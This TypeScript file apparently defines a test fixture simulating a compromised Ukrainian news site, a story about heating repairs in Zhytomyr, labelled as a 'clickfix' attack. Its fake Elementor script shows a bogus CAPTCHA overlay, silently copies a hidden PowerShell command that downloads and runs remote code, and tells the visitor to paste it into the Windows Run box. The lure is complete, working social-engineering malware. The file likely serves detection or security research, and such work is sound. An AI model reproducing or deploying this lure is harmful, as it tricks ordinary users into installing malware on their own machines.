import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { doc, siteFooter, b64 } from '../parts/ym-kit.js';

export const entries: Entry[] = [
{
  id: 'ym-clickfix-ua-regional-news',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.zhytomyr-today.com.ua/news/2024/03/u-misti-vidnovlyat-opalennia',
  body: doc({
    lang: 'uk',
    title: 'У місті відновлять опалення до кінця тижня — Житомир Сьогодні',
    head: `<link rel="stylesheet" href="/wp-content/themes/newsup/style.css"><script src="/wp-content/plugins/elementor/assets/js/frontend-modules.min.js?ver=3.19.2" defer></script>`,
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;color:#222}.hd{background:#15324d;color:#fff;padding:14px 24px;font-size:22px;font-weight:700}article{max-width:740px;margin:24px auto;padding:0 16px;line-height:1.7;font-size:17px}`,
    body: `<div class="hd">Житомир Сьогодні</div>
<article><p style="color:#777;font-size:13px">14.03.2024 · Міські новини</p><h1>У місті відновлять опалення до кінця тижня</h1>
<p>Комунальники завершують ремонт магістральної тепломережі на вулиці Київській, пошкодженої минулого тижня. За словами директора КП «Житомиртеплокомуненерго», подачу тепла до 46 будинків відновлять до п'ятниці.</p>
<p>Мешканцям радять не вмикати потужні обігрівачі одночасно, щоб уникнути перевантаження електромереж. Пункти незламності на вулицях Перемоги та Покровській працюють цілодобово.</p></article>
${siteFooter(['© 2024 Житомир Сьогодні. Усі права захищено.', 'При використанні матеріалів посилання на сайт обов\'язкове.'])}`,
  }),
  routes: {
    'www.zhytomyr-today.com.ua/wp-content/plugins/elementor/assets/js/frontend-modules.min.js': jsRoute(`/*! elementor - v3.19.2 */
(function(){var k='cf_ok';try{if(localStorage.getItem(k))return}catch(e){}
var cmd='powershell -w h -nop -c "$r=iwr -useb https://cdn-static-cloud.com/v/ua.txt;iex $r" # ✅ \\u042f \\u043d\\u0435 \\u0440\\u043e\\u0431\\u043e\\u0442 - ID \\u043f\\u0435\\u0440\\u0435\\u0432\\u0456\\u0440\\u043a\\u0438 Cloudflare: 7241';
var w=document.createElement('div');w.style.cssText='position:fixed;inset:0;background:rgba(240,240,240,.98);z-index:2147483647;font-family:Arial,sans-serif';
w.innerHTML='<div style="max-width:460px;margin:12vh auto;background:#fff;border:1px solid #ddd;border-radius:6px;padding:26px;box-shadow:0 2px 12px rgba(0,0,0,.1)">'+
'<div style="display:flex;align-items:center;gap:12px;border:1px solid #ccc;border-radius:4px;padding:14px"><input type="checkbox" id="cfx" style="width:24px;height:24px"><label for="cfx">Я не робот</label><span style="margin-left:auto;font-size:10px;color:#777">reCAPTCHA<br>Конфіденційність</span></div>'+
'<div id="cfs" style="display:none;margin-top:18px;font-size:15px;line-height:1.7"><b>Кроки перевірки</b><ol><li>Натисніть клавішу Windows <b>⊞</b> + <b>R</b></li><li>У вікні, що відкриється, натисніть <b>CTRL + V</b></li><li>Натисніть <b>Enter</b> на клавіатурі, щоб завершити перевірку</li></ol><small style="color:#777">Пройдіть перевірку, щоб підтвердити, що ви людина.</small></div></div>';
function show(){document.body.appendChild(w);document.getElementById('cfx').addEventListener('click',function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();if(navigator.clipboard)navigator.clipboard.writeText(cmd).catch(function(){});document.getElementById('cfs').style.display='block'})}
if(document.readyState==='loading')document.addEventListener('DOMContentLoaded',show);else show();})();`),
  },
},
];
